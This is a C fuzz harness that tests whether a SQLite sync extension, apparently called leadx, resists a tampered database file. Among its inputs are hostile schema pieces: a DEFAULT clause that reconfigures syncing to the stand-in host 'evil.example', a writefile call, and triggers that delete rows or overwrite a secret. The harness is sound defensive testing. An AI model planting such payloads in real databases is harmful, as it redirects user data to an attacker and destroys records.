/* A file that somebody prepared, and a person who uses it: every function of the reference, every
** table, syncs with a server without a network.
**
** The input is a program (fuzz_input.h). One part of it is the attacker's: cells of leadx's own
** tables, text of the schema, bytes and SQL; a line that begins with "@" ("@OFFSET HEX", overwrites
** bytes of the honest file) or with a capital letter (SQL, with functions of leadx not loaded yet)
** is read as text and counts only before the first operation. The other part is the victim's: writes,
** calls, reads, and what the server answers. Promised: no function that may not be run from a schema
** runs while leadx is at work; no request leaves the server's root or goes to a table that is not
** tracked, and a change names its rows; nothing is applied to a table that is not tracked; every
** call ends, with an answer or an error; the file can be closed. */
#define _GNU_SOURCE /* memmem */
#include <string.h>

#include "api/func.h"
#include "fake_transport.h"
#include "fuzz.h"
#include "fuzz_server.h"

/* Thousands of instructions of the attacker's own SQL, which may run for ever, in one call. */
#define MAX_STEPS 30
#define MAX_OPERATIONS 8
#define MAX_CELLS 250
#define COUNT(table) ((unsigned)(sizeof(table) / sizeof *(table)))

int sqlite3_leadx_init(sqlite3 *handle, char **error, const void *api);

/* ---- the honest file ---- */

/* Tables of one width share what captures them, so that the schema is small: it is read some times in
** each run. */
static const char tables[] =
    "CREATE TABLE notes(id TEXT PRIMARY KEY NOT NULL, body TEXT, n INTEGER, doc JSON, parent TEXT "
    "REFERENCES notes, updated_at TEXT);"
    "CREATE TABLE pairs(a TEXT NOT NULL, b INTEGER NOT NULL, c, d, e, PRIMARY KEY (a, b));"
    "CREATE TABLE bystander(id TEXT PRIMARY KEY, secret TEXT); INSERT INTO bystander VALUES ('1', "
    "'untouched');";
static const char life[] =
    "INSERT INTO notes(id, body, n) VALUES ('n3', 'three', 3), ('n4', 'four', 4); UPDATE notes SET "
    "body = 'mine' WHERE id = 'n1'; DELETE FROM notes WHERE id = 'n2'; INSERT INTO pairs(a, b) "
    "VALUES ('a', 1);"
    "INSERT INTO sync_conflicts(id, entity_type, entity_id, action, client_payload, "
    "server_payload, "
    "base, contested, client_updated_at, server_updated_at, detected_at)"
    " SELECT 'c1', 'notes', 'n1', 'UPDATE', payload, '{\"id\":\"n1\",\"body\":\"theirs\",\"n\":7,"
    "\"updated_at\":\"2026-01-02T03:04:05+00:00\"}', base, '[\"body\"]', "
    "'2026-01-02T03:04:00+00:00', '2026-01-02T03:04:05+00:00', '2026-01-02T03:05:00+00:00' FROM "
    "sync_queue WHERE entity_id = 'n1' AND status = 'PENDING' LIMIT 1;"
    "INSERT INTO leadx_parked(entity, key, reason) VALUES ('notes', 'n9', 'it did not fit')";

static unsigned char *honest;
static sqlite3_int64 honest_bytes;
/* The cells of leadx's own tables: a statement for each column, which sets it in one row. */
static char *cells[MAX_CELLS];
static unsigned ncells;
static char *removals[MAX_CELLS];
static unsigned nremovals;
/* Columns that hold JSON: a statement for each, which changes one value inside. */
static char *documents[MAX_CELLS];
static unsigned ndocuments;

static void must(sqlite3 *db, const char *sql) {
  FUZZ_CHECK(sqlite3_exec(db, sql, NULL, NULL, NULL) == SQLITE_OK, "%s: %s", sql,
             sqlite3_errmsg(db));
}

/* Does some row have an object or an array in that column? */
static int has_documents(sqlite3 *db, const char *tbl, const char *column) {
  sqlite3_stmt *stmt = NULL;
  char *sql = sqlite3_mprintf(
      "SELECT 1 FROM \"%w\" WHERE json_valid(\"%w\") AND json_type(\"%w\") IN "
      "('object', 'array')",
      tbl, column, column);
  FUZZ_CHECK(sqlite3_prepare_v2(db, sql, -1, &stmt, NULL) == SQLITE_OK, "%s", sqlite3_errmsg(db));
  int has = sqlite3_step(stmt) == SQLITE_ROW;
  sqlite3_finalize(stmt);
  sqlite3_free(sql);
  return has;
}

static void list_document(sqlite3 *db, const char *tbl, const char *column) {
  if (!has_documents(db, tbl, column)) return;
  documents[ndocuments++] = sqlite3_mprintf(
      "UPDATE OR REPLACE \"%w\" SET \"%w\" = json_set(\"%w\", (SELECT fullkey FROM "
      "json_tree(\"%w\".\"%w\") LIMIT 1 OFFSET ?2 %% (SELECT count(*) FROM "
      "json_tree(\"%w\".\"%w\"))), "
      "json(?1)) WHERE json_valid(\"%w\")",
      tbl, column, column, tbl, column, tbl, column, column);
}

static void list_cells(sqlite3 *db) {
  static const char sql[] =
      "WITH own(tbl) AS (SELECT name FROM sqlite_schema WHERE type = 'table' AND (name LIKE "
      "'leadx~_%' ESCAPE '~' OR name LIKE 'sync~_%' ESCAPE '~')),"
      " row(tbl, place) AS (SELECT tbl, ifnull((SELECT group_concat('\"' || name || '\"') FROM "
      "pragma_table_info(tbl) WHERE pk), 'rowid') FROM own)"
      " SELECT printf(' \"%w\" %%sWHERE (%s) = (SELECT %s FROM \"%w\" LIMIT 1 OFFSET ?2)', tbl, "
      "place, place, tbl), c.name, c.cid, tbl FROM row, pragma_table_info(tbl) c ORDER BY tbl, cid";
  sqlite3_stmt *stmt = NULL;
  FUZZ_CHECK(sqlite3_prepare_v2(db, sql, -1, &stmt, NULL) == SQLITE_OK, "%s", sqlite3_errmsg(db));
  while (sqlite3_step(stmt) == SQLITE_ROW && ncells < MAX_CELLS) {
    const char *place = (const char *)sqlite3_column_text(stmt, 0);
    char *set = sqlite3_mprintf("SET \"%w\" = ?1 ", sqlite3_column_text(stmt, 1));
    char *rest = sqlite3_mprintf(place, set), *none = sqlite3_mprintf(place, "");
    cells[ncells++] = sqlite3_mprintf("UPDATE OR REPLACE%s", rest);
    if (sqlite3_column_int(stmt, 2) == 0)
      removals[nremovals++] = sqlite3_mprintf("DELETE FROM%s", none);
    list_document(db, (const char *)sqlite3_column_text(stmt, 3),
                  (const char *)sqlite3_column_text(stmt, 1));
    sqlite3_free(set);
    sqlite3_free(rest);
    sqlite3_free(none);
  }
  sqlite3_finalize(stmt);
  FUZZ_CHECK(ncells > 50 && ndocuments > 5, "%u cells, %u documents", ncells, ndocuments);
}

static void make_honest(void) {
  sqlite3 *db;
  fuzz_input nothing = {NULL, NULL};
  FUZZ_CHECK(sqlite3_open(":memory:", &db) == SQLITE_OK &&
                 sqlite3_leadx_init(db, NULL, NULL) == SQLITE_OK,
             "open");
  must(db, tables);
  must(db, "SELECT leadx_track('notes', '{\"policy\":\"manual\"}'), leadx_track('pairs')");
  must(db, "SELECT leadx_configure('" FUZZ_ROOT "', '" FUZZ_KEY "')");
  fuzz_server_begin(&nothing, 1);
  must(db, "SELECT leadx_sync()");
  must(db, "SELECT leadx_check()");
  fuzz_server_end();
  must(db, life);
  list_cells(db);
  honest = sqlite3_serialize(db, "main", &honest_bytes, 0);
  FUZZ_CHECK(honest != NULL && sqlite3_close(db) == SQLITE_OK, "serialize");
}

/* ---- one run ---- */

typedef struct run {
  sqlite3 *db;
  fuzz_input in;
  int is_loaded;
  int is_inside; /* leadx is at work for the victim */
  size_t n; /* the program's length */
  int is_chosen; /* the file says itself what is tracked, or what triggers do */
  int steps;
} run;

/* For direct use only: SQLite runs it from no schema, so while leadx is at work nobody runs it but a
** statement that leadx made of somebody's text. */
static void canary(sqlite3_context *context, int n, sqlite3_value **values) {
  run *r = sqlite3_user_data(context);
  FUZZ_CHECK(!r->is_inside, "leadx runs text of the file: %s",
             n > 0 ? (const char *)sqlite3_value_text(values[0]) : "");
  sqlite3_result_int(context, 1);
}

static void harmless(sqlite3_context *context, int n, sqlite3_value **values) {
  if (n > 0) sqlite3_result_value(context, values[0]);
}

static int give_up(void *arg) { return ++((run *)arg)->steps > MAX_STEPS; }

/* "@OFFSET HEX": overwrites bytes. */
static void patch(unsigned char *bytes, const char *line) {
  char *at;
  unsigned long offset = strtoul(line + 1, &at, 10);
  for (unsigned byte; sscanf(at, " %2x", &byte) == 1 && offset < (unsigned long)honest_bytes;
       offset++) {
    bytes[offset] = (unsigned char)byte;
    at += strspn(at, " ");
    at += strspn(at, "0123456789abcdefABCDEF") < 2 ? strlen(at) : 2;
  }
}

static int is_text(const fuzz_input *in) {
  return in->at < in->end && (*in->at == '@' || (*in->at >= 'A' && *in->at <= 'Z'));
}

/* The lines of text before the first operation, those with that beginning. */
static void each_line(run *r, int is_patch, unsigned char *bytes) {
  fuzz_input in = r->in;
  while (is_text(&in)) {
    const char *at = (const char *)in.at;
    char *line = fuzz_line(&at, (const char *)in.end);
    in.at = (const unsigned char *)at;
    if (is_patch && line[0] == '@') patch(bytes, line);
    if (!is_patch && line[0] != '@') {
      r->steps = 0;
      sqlite3_exec(r->db, line, NULL, NULL, NULL);
    }
    sqlite3_free(line);
  }
  if (!is_patch) r->in = in;
}

static void set_writable_schema(run *r, int on) {
  sqlite3_exec(r->db, on ? "PRAGMA writable_schema = ON" : "PRAGMA writable_schema = RESET", NULL,
               NULL, NULL);
}

static void open_copy(run *r) {
  static const struct {
    const char *name;
    int n;
  } direct[] = {{"canary", -1}, {"writefile", 2}, {"load_extension", 1}, {"edit", -1}};
  unsigned char *bytes = sqlite3_malloc64((sqlite3_uint64)honest_bytes);
  FUZZ_CHECK(bytes && sqlite3_open(":memory:", &r->db) == SQLITE_OK, "memory");
  for (unsigned i = 0; i < COUNT(direct); i++)
    sqlite3_create_function(r->db, direct[i].name, direct[i].n, SQLITE_UTF8 | SQLITE_DIRECTONLY, r,
                            canary, NULL, NULL);
  sqlite3_create_function(r->db, "harmless", -1, SQLITE_UTF8 | SQLITE_DETERMINISTIC, r, harmless,
                          NULL, NULL);
  memcpy(bytes, honest, (size_t)honest_bytes);
  each_line(r, 1, bytes);
  sqlite3_deserialize(r->db, "main", bytes, honest_bytes, honest_bytes,
                      SQLITE_DESERIALIZE_FREEONCLOSE | SQLITE_DESERIALIZE_RESIZEABLE);
  sqlite3_limit(r->db, SQLITE_LIMIT_LENGTH, 1 << 20);
  sqlite3_progress_handler(r->db, 1000, give_up, r);
}

/* ---- the attacker's operations ---- */

static void run_bound(run *r, const char *sql) {
  sqlite3_stmt *stmt = NULL;
  r->steps = 0;
  if (sqlite3_prepare_v2(r->db, sql, -1, &stmt, NULL) != SQLITE_OK) return;
  if (sqlite3_bind_parameter_count(stmt) > 1) sqlite3_bind_int(stmt, 2, (int)fuzz_below(&r->in, 4));
  if (sqlite3_bind_parameter_count(stmt) > 0) fuzz_bind(&r->in, stmt, 1);
  sqlite3_step(stmt);
  sqlite3_finalize(stmt);
}

static void doctor(run *r, const char *sql) {
  int was = 0;
  sqlite3_db_config(r->db, SQLITE_DBCONFIG_ENABLE_TRIGGER, 0, &was);
  sqlite3_exec(r->db, "PRAGMA ignore_check_constraints = ON", NULL, NULL, NULL);
  run_bound(r, sql);
  sqlite3_exec(r->db, "PRAGMA ignore_check_constraints = OFF", NULL, NULL, NULL);
  sqlite3_db_config(r->db, SQLITE_DBCONFIG_ENABLE_TRIGGER, 1, &was);
  r->is_chosen |= strstr(sql, "\"leadx_tables\"") != NULL;
}

/* Another value at a place of the JSON that a cell holds. */
static void doctor_document(run *r) {
  static const char *const others[] = {"7", "true", "null", "\"\"", "\"x\"", "[]", "{}"};
  const char *sql = documents[fuzz_below(&r->in, ndocuments)];
  sqlite3_stmt *stmt = NULL;
  unsigned kind = fuzz_below(&r->in, 2 * COUNT(others));
  r->steps = 0;
  if (sqlite3_prepare_v2(r->db, sql, -1, &stmt, NULL) != SQLITE_OK) return;
  sqlite3_bind_int(stmt, 2, (int)fuzz_byte(&r->in));
  if (kind < COUNT(others)) sqlite3_bind_text(stmt, 1, others[kind], -1, SQLITE_STATIC);
  else sqlite3_bind_text(stmt, 1, fuzz_json(&r->in), -1, sqlite3_free);
  sqlite3_step(stmt);
  sqlite3_finalize(stmt);
  r->is_chosen |= strstr(sql, "\"leadx_tables\"") != NULL;
}

static const char *pick_table(run *r) {
  static const char *const names[] = {"notes",        "pairs",        "sync_queue",
                                      "leadx_tables", "leadx_shadow", "sync_conflicts"};
  unsigned i = fuzz_below(&r->in, 8);
  return i < COUNT(names) ? names[i] : "notes";
}

/* A column, or a constraint, at the end of a table's definition. */
static void doctor_schema(run *r) {
  static const char *const pieces[] = {
      "x DEFAULT (canary('default'))",
      "x DEFAULT (leadx_configure('https://evil.example/rest/v1', 'sb_publishable_evil'))",
      "x DEFAULT (writefile('/tmp/leadx-canary', 'x'))",
      "x DEFAULT (SELECT canary('select'))",
      "x NOT NULL DEFAULT (1 + canary('sum'))",
      "x DEFAULT (harmless(2))",
      "x AS (canary('generated'))",
      "x AS (canary('stored')) STORED",
      "x AS (harmless(1)) STORED",
      "x CHECK (canary('check'))",
      "x CHECK (harmless(x) IS NULL)",
      "x TEXT COLLATE nosuch",
      "x DEFAULT 'it''s'",
      "x DEFAULT -1e999",
      "x DEFAULT x'00ff'",
      "x DEFAULT CURRENT_TIMESTAMP",
      "x DEFAULT \"canary(1)\"",
      "x REFERENCES bystander",
      "\"x\"\") canary('name')\" TEXT",
      "\"\" TEXT",
      "x, X1 DEFAULT (canary('two'))",
      "CHECK (canary('table'))",
      "UNIQUE (id COLLATE NOCASE)",
      "FOREIGN KEY (id) REFERENCES pairs",
  };
  const char *table = pick_table(r), *piece = pieces[fuzz_below(&r->in, COUNT(pieces))];
  char *sql = sqlite3_mprintf(
      "UPDATE sqlite_schema SET sql = rtrim(rtrim(sql), ')') || iif(sql LIKE "
      "'%%))', ')', '') || ', ' || %Q || ')' WHERE type = 'table' AND name = %Q",
      piece, table);
  r->is_chosen = 1;
  set_writable_schema(r, 1);
  sqlite3_exec(r->db, sql, NULL, NULL, NULL);
  set_writable_schema(r, 0);
  sqlite3_free(sql);
}

/* What hangs on a table, or takes its place. */
static void add_object(run *r) {
  static const char *const forms[] = {
      "CREATE TRIGGER %s AFTER INSERT ON %s BEGIN SELECT canary('trigger'); END",
      "CREATE TRIGGER %s AFTER INSERT ON %s BEGIN SELECT harmless(1); END",
      "CREATE TRIGGER %s BEFORE INSERT ON %s BEGIN SELECT RAISE(IGNORE); END",
      "CREATE TRIGGER %s BEFORE UPDATE ON %s BEGIN SELECT RAISE(IGNORE); END",
      "CREATE TRIGGER %s BEFORE DELETE ON %s BEGIN SELECT RAISE(ABORT, 'no'); END",
      "CREATE TRIGGER %s AFTER UPDATE ON %s BEGIN UPDATE bystander SET secret = 'gone'; END",
      "CREATE TRIGGER %s AFTER UPDATE ON %s BEGIN DELETE FROM notes; END",
      "CREATE TRIGGER %s AFTER INSERT ON %s BEGIN DELETE FROM sync_queue; END",
      "CREATE INDEX %s ON %s(harmless(1))",
      "CREATE UNIQUE INDEX %s ON %s(1)",
      "CREATE VIEW %s AS SELECT canary('view') FROM %s",
      "CREATE TEMP VIEW %s AS SELECT canary('view') FROM main.%s",
      "CREATE TEMP TABLE %s AS SELECT * FROM main.%s",
      "CREATE TABLE IF NOT EXISTS %s AS SELECT * FROM %s",
      "CREATE TEMP TRIGGER %s AFTER INSERT ON main.%s BEGIN SELECT harmless(1); END",
  };
  static const char *const names[] = {
      "t1",    "leadx_queue_revived", "leadx_x",        "sync_queue",
      "notes", "leadx_notes_insert",  "leadx_applying", "sqlite_schema"};
  const char *form = forms[fuzz_below(&r->in, COUNT(forms))];
  const char *name = names[fuzz_below(&r->in, COUNT(names))];
  char *sql = sqlite3_mprintf(form, name, pick_table(r));
  r->is_chosen = 1;
  r->steps = 0;
  sqlite3_exec(r->db, sql, NULL, NULL, NULL);
  sqlite3_free(sql);
}

static void alter(run *r) {
  static const char *const forms[] = {
      "ALTER TABLE %s RENAME TO elsewhere",
      "ALTER TABLE %s ADD COLUMN y DEFAULT 'y'",
      "ALTER TABLE %s RENAME COLUMN body TO text",
      "ALTER TABLE %s DROP COLUMN n",
      "DROP TABLE %s",
      "DELETE FROM %s",
      "DROP TABLE %s; CREATE TABLE notes(id TEXT PRIMARY KEY, body DEFAULT (canary('anew')))",
      "DROP TABLE %s; CREATE TABLE notes(id PRIMARY KEY, body, UNIQUE (body)) WITHOUT ROWID",
      "INSERT INTO %s DEFAULT VALUES",
      "PRAGMA trusted_schema = OFF; ANALYZE %s",
      "PRAGMA recursive_triggers = ON; REINDEX %s",
      "PRAGMA foreign_keys = ON; PRAGMA foreign_key_check(%s)",
      "PRAGMA reverse_unordered_selects = ON; REINDEX %s",
      "PRAGMA encoding = 'UTF-16'; REINDEX %s",
      "PRAGMA user_version = 7; VACUUM; REINDEX %s",
      "PRAGMA query_only = ON; REINDEX %s",
  };
  char *sql = sqlite3_mprintf(forms[fuzz_below(&r->in, COUNT(forms))], pick_table(r));
  r->is_chosen = 1;
  r->steps = 0;
  sqlite3_exec(r->db, sql, NULL, NULL, NULL);
  sqlite3_free(sql);
}

static void drop_trigger(run *r) {
  sqlite3_stmt *stmt = NULL;
  char *sql = NULL;
  if (sqlite3_prepare_v2(
          r->db,
          "SELECT printf('DROP TRIGGER \"%w\"', name) FROM sqlite_schema WHERE type = "
          "'trigger' LIMIT 1 OFFSET ?1",
          -1, &stmt, NULL) != SQLITE_OK)
    return;
  sqlite3_bind_int(stmt, 1, (int)fuzz_below(&r->in, 8));
  if (sqlite3_step(stmt) == SQLITE_ROW) sql = sqlite3_mprintf("%s", sqlite3_column_text(stmt, 0));
  sqlite3_finalize(stmt);
  if (sql) sqlite3_exec(r->db, sql, NULL, NULL, NULL);
  sqlite3_free(sql);
}

/* ---- the victim's operations ---- */

/* Runs what calls leadx: to its end, whatever it answers. */
static void inside(run *r, sqlite3_stmt *stmt) {
  r->steps = 0;
  r->is_inside++;
  while (sqlite3_step(stmt) == SQLITE_ROW) {
    for (int i = sqlite3_column_count(stmt) - 1; i >= 0; i--) sqlite3_column_text(stmt, i);
  }
  r->is_inside--;
  sqlite3_finalize(stmt);
}

static sqlite3_stmt *prepare_inside(run *r, const char *sql) {
  sqlite3_stmt *stmt = NULL;
  r->is_inside++;
  sqlite3_prepare_v2(r->db, sql, -1, &stmt, NULL);
  r->is_inside--;
  return stmt;
}

static void ask(run *r, const char *sql) {
  sqlite3_stmt *stmt = prepare_inside(r, sql);
  if (stmt) inside(r, stmt);
}

static void load(run *r) {
  if (r->is_loaded) return;
  if (!sqlite3_get_autocommit(r->db)) sqlite3_exec(r->db, "ROLLBACK", NULL, NULL, NULL);
  r->is_inside++;
  r->is_loaded = sqlite3_leadx_init(r->db, NULL, NULL) == SQLITE_OK ? 1 : -1;
  r->is_inside--;
  if (r->is_loaded > 0) ask(r, "SELECT leadx_configure('" FUZZ_ROOT "', '" FUZZ_KEY "')");
}

/* An argument that a person would give, or one that nobody would. */
static void bind_argument(run *r, sqlite3_stmt *stmt, int parameter) {
  static const char *const sources[] = {"SELECT id FROM sync_queue LIMIT 1 OFFSET ?1",
                                        "SELECT id FROM sync_conflicts LIMIT 1 OFFSET ?1",
                                        "SELECT table_name FROM leadx_tables LIMIT 1 OFFSET ?1"};
  static const char *const plausible[] = {"notes",
                                          "pairs",
                                          "client",
                                          "server",
                                          "merge",
                                          "renumber",
                                          "CREATE",
                                          "UPDATE",
                                          "DELETE",
                                          "online",
                                          "refresh",
                                          "foreground",
                                          "{}",
                                          "{\"strict\":true}",
                                          "{\"body\":\"x\"}",
                                          "{\"id\":\"n8\"}",
                                          "{\"dry_run\":true}",
                                          "{\"existing\":\"push\"}",
                                          "{\"columns\":{\"n\":null}}",
                                          "n1",
                                          "batch_size",
                                          "interval",
                                          "10",
                                          "force"};
  unsigned kind = fuzz_below(&r->in, 8);
  sqlite3_stmt *source = NULL;
  if (kind < COUNT(sources) &&
      sqlite3_prepare_v2(r->db, sources[kind], -1, &source, NULL) == SQLITE_OK) {
    sqlite3_bind_int(source, 1, (int)fuzz_below(&r->in, 8));
    if (sqlite3_step(source) == SQLITE_ROW)
      sqlite3_bind_value(stmt, parameter, sqlite3_column_value(source, 0));
  } else if (kind < 6) {
    sqlite3_bind_text(stmt, parameter, plausible[fuzz_below(&r->in, COUNT(plausible))], -1,
                      SQLITE_STATIC);
  } else {
    fuzz_bind(&r->in, stmt, parameter);
  }
  sqlite3_finalize(source);
}

/* Any function of the reference. A URL is a person's own choice and stays. */
static void call_function(run *r) {
  const leadx_function *f = &leadx_functions[fuzz_byte(&r->in) % (unsigned)leadx_nfunctions];
  int n = f->min_args + (int)fuzz_below(&r->in, (unsigned)(f->max_args - f->min_args + 1));
  int is_address = strcmp(f->name, "leadx_configure") == 0;
  char sql[80];
  if (is_address && n < 2) return;
  snprintf(sql, sizeof sql, "SELECT %s(%.*s)", f->name, n > 0 ? 2 * n - 1 : 0, "?,?,?,?,?,?,?,?");
  sqlite3_stmt *stmt = prepare_inside(r, sql);
  if (!stmt) return;
  for (int i = 1; i <= n; i++) {
    if (is_address && i < 3)
      sqlite3_bind_text(stmt, i, i == 1 ? FUZZ_ROOT : FUZZ_KEY, -1, SQLITE_STATIC);
    else bind_argument(r, stmt, i);
  }
  /* These say what is tracked. */
  if (strcmp(f->name, "leadx_track") == 0 || strcmp(f->name, "leadx_clone") == 0) r->is_chosen = 1;
  inside(r, stmt);
}

static void read_table(run *r, unsigned i) {
  char sql[160] = "";
  sqlite3_stmt *stmt = NULL;
  sqlite3_prepare_v2(
      r->db,
      "SELECT printf('SELECT * FROM \"%w\"', name) FROM pragma_module_list WHERE name "
      "LIKE 'leadx~_%' ESCAPE '~' ORDER BY name LIMIT 1 OFFSET ?1",
      -1, &stmt, NULL);
  sqlite3_bind_int(stmt, 1, (int)i);
  if (stmt && sqlite3_step(stmt) == SQLITE_ROW)
    snprintf(sql, sizeof sql, "%s", sqlite3_column_text(stmt, 0));
  sqlite3_finalize(stmt);
  if (sql[0]) ask(r, sql);
}

static void use_queue(run *r) {
  static const char *const forms[] = {
      "UPDATE leadx_queue SET status = 'PENDING' WHERE id = ?",
      "DELETE FROM leadx_queue WHERE id = ?",
      "SELECT * FROM leadx_queue WHERE status = ? ORDER BY state",
      "SELECT * FROM leadx_queue WHERE id = ?",
      "SELECT payload, base FROM leadx_queue WHERE rowid = ?",
      "UPDATE leadx_queue SET status = ?",
      "INSERT INTO leadx_queue(id) VALUES (?)",
  };
  sqlite3_stmt *stmt = prepare_inside(r, forms[fuzz_below(&r->in, COUNT(forms))]);
  if (!stmt) return;
  bind_argument(r, stmt, 1);
  inside(r, stmt);
}

static void write_row(run *r) {
  static const char *const forms[] = {
      "INSERT OR REPLACE INTO notes(id, body) VALUES ('n6', ?1)",
      "INSERT INTO notes(id, doc) VALUES (?1, '{}')",
      "UPDATE notes SET body = ?1 WHERE id = 'n1'",
      "UPDATE notes SET doc = ?1, n = 5 WHERE id = (SELECT id FROM notes LIMIT 1 OFFSET ?2)",
      "UPDATE notes SET id = ?1 WHERE id = (SELECT id FROM notes LIMIT 1 OFFSET ?2)",
      "UPDATE notes SET parent = ?1",
      "DELETE FROM notes WHERE id = (SELECT id FROM notes LIMIT 1 OFFSET ?2) OR id = ?1",
      "INSERT INTO pairs(a, b) VALUES (?1, ?2)",
  };
  run_bound(r, forms[fuzz_below(&r->in, COUNT(forms))]);
}

static void resolve(run *r) {
  static const char *const forms[] = {
      "SELECT leadx_resolve(id, 'merge', '{\"body\":\"x\",\"n\":9}') FROM main.sync_conflicts",
      "SELECT leadx_resolve('c1', 'merge', '{\"body\":\"merged\"}')",
      "SELECT leadx_resolve('c1', 'client')",
      "SELECT leadx_resolve('c1', 'server')",
  };
  ask(r, forms[fuzz_below(&r->in, COUNT(forms))]);
}

static void sync_once(run *r) {
  static const char *const forms[] = {
      "SELECT leadx_sync()",  "SELECT leadx_step()",         "SELECT leadx_push()",
      "SELECT leadx_pull()",  "SELECT leadx_reconcile()",    "SELECT leadx_check()",
      "SELECT leadx_retry()", "SELECT leadx_track('notes')",
  };
  ask(r, forms[fuzz_below(&r->in, COUNT(forms))]);
}

/* An operation of the attacker's is not inside, so that his own statements may call what they like. */
static void operate(run *r) {
  unsigned operation = fuzz_below(&r->in, 16);
  switch (operation) {
    case 2: doctor_document(r); return;
    case 0:
    case 1: doctor(r, cells[fuzz_byte(&r->in) % ncells]); return;
    case 3: doctor(r, removals[fuzz_byte(&r->in) % nremovals]); return;
    case 4:
    case 5: doctor_schema(r); return;
    case 6: add_object(r); return;
    case 7: alter(r); return;
    case 8: drop_trigger(r); return;
    case 9: write_row(r); return;
    default: break;
  }
  load(r);
  if (r->is_loaded < 0) return;
  if (!sqlite3_get_autocommit(r->db)) sqlite3_exec(r->db, "ROLLBACK", NULL, NULL, NULL);
  switch (operation) {
    case 10: sync_once(r); return;
    case 11: resolve(r); return;
    case 12: read_table(r, fuzz_below(&r->in, 8)); return;
    case 13: use_queue(r); return;
    default: call_function(r);
  }
}

/* ---- what is promised ---- */

static void see_request(void *ctx, const leadx_request *req) {
  run *r = ctx;
  FUZZ_CHECK(r->is_chosen || !strstr(req->url, "v1/bystander"), "%s", req->url);
}

/* The bystander's rows, all in one text, as the honest file has them; NULL when they cannot be read. */
#define UNTOUCHED "'1''untouched'"
static char *bystander(sqlite3 *db) {
  sqlite3_stmt *stmt = NULL;
  char *text = NULL;
  if (sqlite3_prepare_v2(db, "SELECT group_concat(quote(id) || quote(secret)) FROM main.bystander",
                         -1, &stmt, NULL) == SQLITE_OK &&
      sqlite3_step(stmt) == SQLITE_ROW) {
    text = sqlite3_mprintf(
        "%s", sqlite3_column_text(stmt, 0) ? (const char *)sqlite3_column_text(stmt, 0) : "");
  }
  sqlite3_finalize(stmt);
  return text;
}

/* Behind every program, by its length: a sync, a decision, or nothing. */
static void use_it_all(run *r) {
  load(r);
  if (r->is_loaded < 0) return;
  if (!sqlite3_get_autocommit(r->db)) sqlite3_exec(r->db, "ROLLBACK", NULL, NULL, NULL);
  if (r->n % 4 < 2) sync_once(r);
  else if (r->n % 4 == 2) resolve(r);
}

void fuzz_file(const char *data, size_t n) {
  if (!honest) make_honest();
  fuzz_outer_steps = 1;
  run r = {.in = {(const unsigned char *)data, (const unsigned char *)data + n}, .n = n};
  open_copy(&r);
  /* What the server answers is spoilt by the same bytes, from the end. */
  fuzz_input answers = {r.in.end - (n > 64 ? n / 4 : 0), r.in.end};
  fuzz_server *server = fuzz_server_begin(&answers, n % 2 == 0);
  server->seen = see_request;
  server->ctx = &r;
  if (is_text(&r.in)) {
    set_writable_schema(&r, 1);
    each_line(&r, 0, NULL);
    set_writable_schema(&r, 0);
    sqlite3_exec(r.db, "PRAGMA query_only = OFF", NULL, NULL, NULL);
    r.is_chosen = 1;
  }
  for (int i = 0; i < MAX_OPERATIONS && r.in.at < r.in.end; i++) operate(&r);
  use_it_all(&r);
  char *after = r.is_chosen ? NULL : bystander(r.db);
  FUZZ_CHECK(!after || strcmp(after, UNTOUCHED) == 0, "the bystander became %s", after);
  sqlite3_free(after);
  FUZZ_CHECK(sqlite3_close(r.db) == SQLITE_OK, "something was left open");
  fuzz_server_end();
}
